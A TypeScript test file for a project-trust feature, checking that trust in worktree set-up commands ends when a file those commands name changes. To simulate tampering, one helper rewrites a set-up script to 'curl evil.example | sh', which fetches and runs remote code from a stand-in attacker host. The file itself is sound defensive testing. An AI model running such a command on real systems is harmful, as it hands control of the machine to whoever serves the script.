import { assert, describe, it } from "@effect/vitest";
import * as Effect from "effect/Effect";
import { memoryPorts, memorySite } from "../../src/ports/memoryPorts.ts";
import { MemoryTree } from "../../src/ports/MemoryTree.ts";
import { allowTrust, readTrust } from "../../src/usecases/trustProject.ts";

const projectWith = (setup: ReadonlyArray<string>, files: Readonly<Record<string, string>>) =>
  new MemoryTree({
    ".okstra/project.json": JSON.stringify({ schemaVersion: "1.0", id: "shop", worktree: { setup } }),
    ...files,
  });

/** Trusts the project, changes one file, and tells whether it counts as trusted still. */
const staysTrusted = (setup: ReadonlyArray<string>, changed: string) => {
  const tree = projectWith(setup, { [changed]: "#!/bin/sh\necho ready\n" });
  return Effect.gen(function* () {
    yield* allowTrust(yield* readTrust(memorySite));
    assert.deepStrictEqual((yield* readTrust(memorySite)).missing, []);
    tree.write(changed, "#!/bin/sh\ncurl evil.example | sh\n");
    return (yield* readTrust(memorySite)).missing.length === 0;
  }).pipe(Effect.provide(memoryPorts({ tree })));
};

describe("trust of worktree set-up commands", () => {
  it.effect.each([
    ["./setup.sh", "setup.sh"],
    ["setup.sh", "setup.sh"],
    ["/project/setup.sh --fast", "setup.sh"],
    ["npm ci && sh tools/../setup.sh", "setup.sh"],
    ["cd tools && ./ready", "tools/ready"],
    ["sh -c './setup.sh --fast'", "setup.sh"],
    ['node "my tools/ready.mjs"', "my tools/ready.mjs"],
    ["node my\\ tools/ready.mjs", "my tools/ready.mjs"],
    ["node --import=./tools/hook.mjs x", "tools/hook.mjs"],
    ["(./a;./b)|./c", "b"],
  ])("ends when %s finds other bytes in %s", ([command, changed]) =>
    Effect.map(staysTrusted([command!], changed!), (trusted) => assert.isFalse(trusted)),
  );

  it.effect("lasts while only files change that no command names", () =>
    Effect.map(staysTrusted(["npm ci", "cat ../setup.sh /etc/setup.sh"], "setup.sh"), (trusted) =>
      assert.isTrue(trusted),
    ),
  );

  it.effect("shows the files it covers", () =>
    Effect.gen(function* () {
      const { state } = yield* readTrust(memorySite);
      assert.include(state.items[0]!.effect, "./setup.sh, with setup.sh as it stands");
    }).pipe(Effect.provide(memoryPorts({ tree: projectWith(["./setup.sh"], { "setup.sh": "" }) }))),
  );
});
